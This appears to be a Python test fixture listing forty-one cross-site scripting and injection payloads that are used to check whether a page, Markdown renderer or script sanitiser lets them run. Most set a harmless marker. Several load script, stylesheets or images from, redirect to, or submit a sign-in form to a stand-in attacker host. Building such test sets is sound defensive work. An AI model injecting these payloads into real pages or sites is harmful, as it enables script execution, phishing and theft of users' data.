"""Forty-one texts that would run a script or load something if a page, its Markdown or its script let them act.

Each contains ``attacked``, by which a test recognises it; where it would run, it sets ``window.attacked``.
"""

PAYLOADS = (
    # elements
    "<script>window.attacked=1</script>",
    "<ScRiPt >window.attacked=1</sCrIpT >",
    '<script src="https://evil.example/attacked.js"></script>',
    "<img src=x onerror=window.attacked=1>",
    "<img src=x onerror=window.attacked=1//",
    "<IMG/SRC=x/ONERROR=window.attacked=1>",
    "<svg onload=window.attacked=1>",
    '<svg><animate attributeName="href" values="javascript:window.attacked=1"/></svg>',
    "<svg><style><img src=x onerror=window.attacked=1></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=window.attacked=1&gt;'>",
    "<body onload=window.attacked=1>",
    "<details open ontoggle=window.attacked=1>x</details>",
    "<input autofocus onfocus=window.attacked=1>",
    "<video><source onerror=window.attacked=1></video>",
    '<iframe srcdoc="<script>parent.attacked=1</script>"></iframe>',
    '<object data="javascript:window.attacked=1"></object>',
    '<embed src="data:text/html,<script>parent.attacked=1</script>">',
    '<base href="https://evil.example/attacked/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/attacked">',
    '<link rel="stylesheet" href="https://evil.example/attacked.css">',
    "<style>*{background:url(https://evil.example/attacked)}</style>",
    '<form action="https://evil.example/attacked"><button>Sign in</button></form>',
    # the end of what surrounds the text
    '"><script>window.attacked=1</script>',
    "' onmouseover='window.attacked=1' x='",
    '" autofocus onfocus="window.attacked=1" x="',
    "</title></textarea></style></script><script>window.attacked=1</script>",
    "--><img src=x onerror=window.attacked=1><!--",
    "]]><script>window.attacked=1</script><![CDATA[",
    "<!-- nb attacked --><script>window.attacked=1</script><!-- /nb -->",
    "</details><details><summary><img src=x onerror=window.attacked=1></summary>",
    # Markdown
    "[attacked](javascript:window.attacked=1)",
    "[attacked](&#106;avascript&colon;window.attacked=1)",
    "[attacked](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuYXR0YWNrZWQ9MTwvc2NyaXB0Pg==)",
    "<javascript:window.attacked=1>",
    "![attacked](https://evil.example/attacked.png)",
    '[x](https://evil.example/"onmouseover="window.attacked=1)',
    'https://evil.example/attacked"onmouseover="window.attacked=1',
    # templates, encodings and plain addresses
    "{{ ''.__class__.__mro__ }}{% raw %}<script>window.attacked=1</script>{{ 7*191 }}",
    "javascript:window.attacked=1",
    "java\tscript:window.attacked=1",
    "\u202e\uff1cscript\uff1ewindow.attacked=1\uff1c/script\uff1e&lt;script&gt;window.attacked=1&lt;/script&gt;",
)
